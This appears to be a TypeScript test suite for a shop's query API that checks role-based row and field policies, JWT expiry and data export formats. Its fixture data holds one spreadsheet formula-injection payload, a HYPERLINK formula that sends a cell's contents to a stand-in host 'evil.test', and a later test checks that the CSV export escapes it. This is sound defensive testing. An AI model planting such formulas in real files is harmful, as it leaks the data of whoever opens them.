import { once } from "node:events";
import { type IncomingMessage, request } from "node:http";
import { afterAll, beforeAll, describe, expect, test, vi } from "vitest";
import { FORMATS } from "../../src/export/index.ts";
import { createAuthenticator } from "../../src/identity/index.ts";
import { makeUser } from "../../src/identity/principal.ts";
import { parseRequest } from "../../src/request/index.ts";
import { identityFrom, readSettings } from "../../src/settings/index.ts";
import { type Api, startShop } from "../graphql/support.ts";
import { AUDIENCE, fileWith, forge, pemOf, rsa, standingClock } from "../identity/support.ts";
import { inFile } from "../settings/support.ts";
import { csvFields, plain, readBack, roughly } from "./readers.ts";

const POLICIES = `project: shop
claims: { region: string }
---
policy: orders
roles:
  analyst: { rows: all, fields: all }
  guest: { rows: status = 'paid', fields: [orders, order, status] }
  support: { rows: all, fields: all }
---
policy: customers
roles:
  analyst: { rows: region = claim('region'), fields: all }
  support: { rows: all, fields: all, masks: { tier: null } }
`;

/** More orders than the buffers of two sockets hold, and a note that a spreadsheet would run. */
const MORE = `insert into shop.orders
  select 100 + i, 1, 1, 1, 1, 'placed', false, 'note number ' || i || ' of a long list of notes', date '2026-01-01', null
  from range(200000) t(i);
insert into shop.orders values (99, 1, 1, 1, 1, 'paid', false, '=HYPERLINK("http://evil.test/?" & A1)', '2026-01-02', null);`;

const ISSUER = "https://login.example.com";
const key = rsa();
const clock = standingClock();
const stderr = vi.spyOn(process.stderr, "write").mockImplementation(() => true);
let shop: Api;

beforeAll(async () => {
  const file = inFile(`identity:
  jwt:
    - issuer: ${ISSUER}
      audience: ${AUDIENCE}
      algorithm: RS256
      typ: JWT
      keys: { pem: [{ file: "${fileWith(pemOf(key))}" }] }
      roles: { path: [roles] }
      claims: { region: [region] }
`);
  const { settings } = readSettings(file, {});
  if (!settings?.identity) throw new Error("the settings do not load");
  const identity = identityFrom(settings.identity, new Map([["region", { type: "string" }]]));
  const authenticator = createAuthenticator(identity.settings, { clock, env: {} });
  shop = await startShop({ definitions: { "policies.yaml": POLICIES }, tables: MORE, http: { authenticator } });
});
afterAll(async () => {
  stderr.mockRestore();
  await shop.close();
});

const PEOPLE = {
  analyst: { roles: ["analyst"], claims: { region: "EMEA" } },
  other: { roles: ["analyst"], claims: { region: "APAC" } },
  guest: { roles: ["guest"], claims: {} },
  support: { roles: ["support"], claims: {} },
};
type Name = keyof typeof PEOPLE;

function tokenOf(name: Name): string {
  const now = Math.floor(clock.now() / 1_000);
  const { roles, claims } = PEOPLE[name];
  const payload = { iss: ISSUER, aud: AUDIENCE, sub: name, iat: now, exp: now + 600, roles, ...claims };
  return forge(key.privateKey, payload, { alg: "RS256", typ: "JWT" }, "RS256");
}

const principalOf = (name: Name) => makeUser({ issuer: ISSUER, subject: name, name, ...PEOPLE[name] });

async function open(search: string, token: string): Promise<IncomingMessage> {
  const headers = { authorization: `Bearer ${token}` };
  const asked = request({ host: "127.0.0.1", port: shop.port, path: `/v1/query?${search}`, headers });
  asked.end();
  const [response] = await once(asked, "response");
  return response;
}

async function bytesOf(response: IncomingMessage): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const chunk of response) chunks.push(chunk);
  return Buffer.concat(chunks);
}

describe.each(FORMATS)("$name", ({ name: format }) => {
  test.each([
    ["analyst", "metrics=revenue,orders&by=customer__region,customer__tier"],
    ["other", "metrics=revenue,orders&by=customer__region,customer__tier"],
    ["support", "metrics=revenue&by=customer__tier"],
    ["support", "by=customer__tier,customer__region"],
    ["guest", "metrics=orders&by=order__status"],
  ] as const)("holds the rows and masks of whoever asks: %s, %s", async (name, search) => {
    const [metrics, groups] = [/metrics=([^&]*)/.exec(search)?.[1], /by=([^&]*)/.exec(search)?.[1]];
    const asked = parseRequest({
      ...(metrics !== undefined && { metrics: metrics.split(",") }),
      groupBy: groups?.split(",").map((group) => ({ name: group })),
    });
    const { columns, rows } = await shop.engine.query(asked, principalOf(name));
    expect(rows.length).toBeGreaterThan(0);
    const bytes = await bytesOf(await open(`${search}&format=${format}`, tokenOf(name)));
    for (const [reader, found] of Object.entries(await readBack(format, bytes, columns))) {
      const expected = plain(rows, columns);
      expect(found, reader).toEqual(reader === "hyparquet" ? roughly(expected, columns) : expected);
    }
  });

  test("what is hidden is refused as what does not exist", async () => {
    const refused = async (group: string) => {
      const response = await open(`metrics=orders&by=${group}&format=${format}`, tokenOf("guest"));
      return [response.statusCode, String(await bytesOf(response)).replaceAll(group, "…")];
    };
    const hidden = await refused("order__note");
    expect(hidden[0]).toBe(404);
    expect(hidden).toEqual(await refused("order__nope"));
  });

  test("a masked field is not computed with", async () => {
    const search = `metrics=orders&where=${encodeURIComponent("customer__tier = 'basic'")}&format=${format}`;
    const response = await open(search, tokenOf("support"));
    expect(response.statusCode).toBe(403);
    expect(JSON.parse(String(await bytesOf(response))).error.code).toBe("MASKED_FIELD");
  });
});

test("what people wrote is no formula in a spreadsheet", async () => {
  const response = await open("by=order__note&order=order__note&limit=2&format=csv", tokenOf("analyst"));
  const rows = csvFields(String(await bytesOf(response)));
  expect(rows.flat()).toContain(`'=HYPERLINK("http://evil.test/?" & A1)`);
});

test("a token is checked when the question begins: one that expires meanwhile lets that answer end, and begins no other", async () => {
  const token = tokenOf("analyst");
  const search = "by=order__note&no-distinct&format=ndjson";
  const response = await open(search, token);
  expect(response.statusCode).toBe(200);
  response.pause();
  clock.pass(11 * 60_000);
  expect((await open(search, token)).statusCode).toBe(401);
  const lines = String(await bytesOf(response))
    .trimEnd()
    .split("\n");
  expect(response.complete).toBe(true);
  expect(lines).toHaveLength(200_007);
});
